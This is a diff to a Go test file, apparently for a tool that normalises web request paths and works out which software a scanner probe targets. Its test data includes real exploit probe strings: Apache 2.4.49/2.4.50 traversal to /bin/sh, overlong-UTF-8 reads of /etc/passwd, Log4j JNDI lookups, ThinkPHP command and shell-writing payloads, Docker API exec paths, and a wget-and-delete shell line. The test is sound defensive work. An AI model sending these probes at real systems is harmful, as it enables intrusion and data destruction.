@@ -55,25 +55,50 @@ func forms(t *testing.T, s *Store) map[string]string {
 func TestPathForms(t *testing.T) {
 	s := open(t)
 	want := map[string]string{
-		"/":                                "/",
-		"*":                                "*",
-		"":                                 "",
-		"/HNAP1":                           "/hnap1",
-		"/GponForm/diag_Form?images/":      "/gponform/diag_form?images=",
-		"/cgi-bin/.%2e/.%2e/%2e%2e/bin/sh": "/cgi-bin/../bin/sh",
-		"/a/..;/..;/manager/html":          "/a/../manager/html",
-		"//a/./b//c/":                      "/a/b/c/",
-		`/a\b`:                             "/a/b",
-		"http://192.0.2.1:80/x?Y=1&b=2#f":  "/x?b=&y=",
-		"/x?b=9&y&b=3&=4":                  "/x?b=&y=",
+		"/":                                 "/",
+		"*":                                 "*",
+		"":                                  "",
+		"/HNAP1":                            "/hnap1",
+		"/GponForm/diag_Form?images/":       "/gponform/diag_form?images=",
+		"/cgi-bin/.%2e/.%2e/%2e%2e/bin/sh":  "/cgi-bin/../bin/sh",
+		"/cgi-bin/.%%32%65/.%%32%65/bin/sh": "/cgi-bin/../bin/sh",
+		"/cgi-bin/%%32%65%%32%45/%2%65%%32e/bin/sh": "/cgi-bin/../bin/sh",
+		"/100%%":                               "/100%%",
+		"/..%c0%af..%C0%AFetc/passwd":          "/../etc/passwd",
+		"/%c0%ae%C0%ae/%25c0%25ae./etc/passwd": "/../etc/passwd",
+		"/scripts/..%c1%9c../winnt":            "/scripts/../winnt",
+		"/\xc0\xae\xc0\xae/x":                  "/../x",
+		"[2001:db8::1]:443":                    "[{ip}]:443",
+		"[::ffff:192.0.2.1]:8443":              "[{ip}]:{n}",
+		"[fe80::1%25eth0]:80":                  "[{ip}]:80",
+		"/[::1]/[a]/[b:c]":                     "/[{ip}]/[a]/[b:c]",
+		"/${jndi:ldap://192.0.2.1:1389/a}":     "/${jndi:ldap:/{ip}:{n}/a}",
+		// A name in the target is of somebody else, an address may be the target's own.
+		"http://example.com/":                    "{host}/",
+		"HTTPS://user:pw@Example.com:8443/A?b=1": "{host}/a?b=",
+		"http://example.com":                     "{host}",
+		"http://example.com?a=1":                 "{host}?a=",
+		"http://192.0.2.1.example.com/":          "{host}/",
+		"http://localhost/x":                     "{host}/x",
+		"http://192.0.2.1":                       "",
+		"http://user@192.0.2.1/":                 "/",
+		"http://192.0.2.1?a=1":                   "?a=",
+		"http://[2001:db8::1]:8080/x":            "/x",
+		"http:///x":                              "/x",
+		"{host}/a":                               "{host}/a",
+		"/a/..;/..;/manager/html":                "/a/../manager/html",
+		"//a/./b//c/":                            "/a/b/c/",
+		`/a\b`:                                   "/a/b",
+		"http://192.0.2.1:80/x?Y=1&b=2#f":        "/x?b=&y=",
+		"/x?b=9&y&b=3&=4":                        "/x?b=&y=",
 		"/index.php?s=/Index/x&function=call&vars[0]=md5&vars[1][]=x": "/index.php?function=&s=&vars[0]=&vars[1][]=",
 		"/nmaplowercheck1617181920":                                   "/nmaplowercheck{n}",
 		"/x/550e8400-e29b-41d4-a716-446655440000/deadbeef01":          "/x/{uuid}/{hex}",
 		"/d41d8cd98f00b204e9800998ecf8427e.php":                       "/{hex}.php",
 		"/deadbe1234/0491f166/1979f8b878957642/12345678/":             "/{hex}/{hex}/{hex}/{n}/",
 		"/page12345678/e1234567/0xDEADBEEF01/cafe_feedface1-2026":     "/page{n}/{hex}/{hex}/cafe_{hex}-{n}",
-		"http://h.example/foo#bar?z=1":                                "/foo",
-		"http://h.example#/foo":                                       "",
+		"http://h.example/foo#bar?z=1":                                "{host}/foo",
+		"http://h.example#/foo":                                       "{host}",
 		"/%2570hpMyAdmin/":                                            "/phpmyadmin/",
 		"/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/x":             "/shell?cd=",
 		"/what%3Fx=1":            "/what?x=1",
@@ -154,7 +179,8 @@ func TestPathMeanings(t *testing.T) {
 	s := open(t)
 	want := map[string]string{
 		"/cgi-bin/phf?Qalias=x%0a/bin/cat%20/etc/passwd": "phf", "/cgi-bin/test-cgi?*": "test-cgi", "/cgi-bin/php.cgi?/etc/passwd": "PHP",
-		"/cgi-bin/.%2e/.%2e/bin/sh": "Apache httpd 2.4.49", "/cgi-bin/luci/;stok=/locale?form=country": "OpenWrt, TP-Link Archer",
+		"/cgi-bin/.%2e/.%2e/bin/sh": "Apache httpd 2.4.49, 2.4.50", "/cgi-bin/.%%32%65/.%%32%65/bin/sh": "Apache httpd 2.4.49, 2.4.50",
+		"/cgi-bin/%%32%65%%32%65/bin/sh": "Apache httpd 2.4.49, 2.4.50", "/cgi-bin/luci/;stok=/locale?form=country": "OpenWrt, TP-Link Archer",
 		"/cgi-bin/nas_sharing.cgi?user=messagebus": "D-Link NAS", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=x": "Netgear DGN1000",
 		"/tmUnblock.cgi": "Linksys", "/HNAP1/": "HNAP (D-Link, Linksys)", "/GponForm/diag_Form?images/": "Dasan GPON",
 		"/boaform/admin/formLogin": "Boa (GPON and ONU devices)", "/goform/setUsbUnload": "GoAhead (Tenda and others)",
@@ -175,6 +201,31 @@ func TestPathMeanings(t *testing.T) {
 		"/+CSCOT+/translation-table": "Cisco ASA", "/global-protect/login.esp": "PAN-OS GlobalProtect", "/v1.24/containers/json": "Docker", "/api/v1/pods": "Kubernetes",
 		"/server-status": "Apache httpd", "/static/../../etc/passwd": "any", "/cgi-bin/status": "CGI scripts", "/robots.txt": "crawlers",
 		"/.well-known/security.txt": "people", "/.well-known/acme-challenge/x": "any", "/sitemap.xml": "crawlers", "/favicon.ico": "any", "/": "any", "192.0.2.1:443": "proxies",
+		"[2001:db8::1]:443": "proxies", "example.com:8443": "proxies", "http://example.com/": "proxies", "http://example.com/robots.txt": "proxies",
+		"http://192.0.2.1:80/phpMyAdmin/scripts/setup.php": "phpMyAdmin", "http://192.0.2.1/": "any",
+		"/..%c0%af..%c0%afetc/passwd": "any", "/%c0%ae%c0%ae/etc/passwd": "any",
+		"/${jndi:ldap://192.0.2.1:1389/a}": "Apache Log4j", "/%24%7B%24%7B%3A%3A-j%7Dndi:ldap://x.example/a%7D": "Apache Log4j", "/${lower:j}": "Apache Log4j",
+		"/currentsetting.htm": "Netgear", "/evox/about": "Trane Tracer SC", "/console": "Oracle WebLogic", "/console?x=1": "Oracle WebLogic",
+		"/.gitignore": "version control", "/.github/workflows/ci.yml": "version control", "/.gitlab-ci.yml": "version control", "/.git-credentials": "version control", "/.git": "version control", "/.hg/": "version control",
+		"/?s=index/\\think\\Request/input&filter[]=system&data=pwd":                                      "ThinkPHP",
+		"/public/index.php?s=index/\\think\\Request/input&filter=phpinfo&data=1":                         "ThinkPHP",
+		"/?s=index/\\think\\template\\driver\\file/write&cacheFile=shell.php&content=<?php phpinfo();?>": "ThinkPHP",
+		"/containers/json": "Docker", "/images/json?all=1": "Docker", "/v1.41/containers/create?name=x": "Docker", "/containers/0123456789ab/start": "Docker",
+		"/v1.24/exec/0123456789ab/start": "Docker", "/containers/x/exec": "Docker", "/v1.24/version": "Docker",
+		"/pma": "phpMyAdmin", "/pma2/": "phpMyAdmin", "/PMA2019/": "phpMyAdmin", "/php-myadmin/": "phpMyAdmin", "/db/dbadmin/": "phpMyAdmin",
+		"/ecp/": "Microsoft Exchange", "/owa": "Microsoft Exchange", "/autodiscover/autodiscover.json?x": "Microsoft Exchange", "/solr": "Apache Solr", "/nacos": "Nacos", "/druid/": "Apache Druid",
+		"/.env2": "Laravel and others", "/.envrc": "Laravel and others", "/adminer-4.8.1-mysql.php": "Adminer", "/actuator;/env": "Spring Boot",
+		"/axis2-web/HappyAxis.jsp": "Apache Axis2", "/sitemap_index.xml": "crawlers", "/.htpasswd": "hidden files", "/+CSCOE+/logon.html": "Cisco ASA", "/cgi-bin/luci;stok=x/admin": "OpenWrt, TP-Link Archer",
+	}
+	// What only begins like one of them, or has a part of its name, is nothing.
+	for _, p := range []string{
+		"/images/logo.png", "/images/", "/exec/", "/containers/", "/version", "/images/json.png", "/exec/start", "/v1.24/versions",
+		"/owarranty", "/ecparts", "/autodiscovery", "/pmap", "/js/pmail.js", "/mydbadmins", "/nacosx", "/druidic", "/solrad", "/consoles", "/jenkinson", "/hudson-river",
+		"/geoservers", "/zabbixes", "/actuators", "/administer", "/adminers", "/axis2x", "/wordpresses", "/wp-loginx.php", "/jmx-consoles", "/wls-wsats", "/hnap10", "/manager/htmlx",
+		"/.environment", "/.gitx", "/.awsome", "/.sshx", "/cgi-bins/x", "/server-statusx", "/sitemapping", "/robots.txts", "/favicon.icons", "/api/v1/podsx", "/api/jsonwsx", "/dana-nation",
+		"/evox/aboutx", "/currentsetting.html", "/+cscommon", "/?s=news", "/shop?filter=1&s=2", "/$%7Bname%7D", "/a:80", "a:80/x", "/cgi-binary",
+	} {
+		want[p] = ""
 	}
 	var paths []string
 	for p := range want {
@@ -192,7 +243,9 @@ func TestPathMeanings(t *testing.T) {
 	}
 	require.NoError(t, r.Close())
 	for p, w := range want {
-		assert.Equal(t, w, software[got[p]], "%s is %s", p, got[p])
+		have, ok := software[got[p]]
+		assert.True(t, ok, p)
+		assert.Equal(t, w, have, "%s is %s", p, got[p])
 	}
 	// No pattern is there for nothing: each is the first that matches one of these paths.
 	assert.Empty(t, table(t, s, `SELECT pattern FROM path_meanings WHERE rank NOT IN
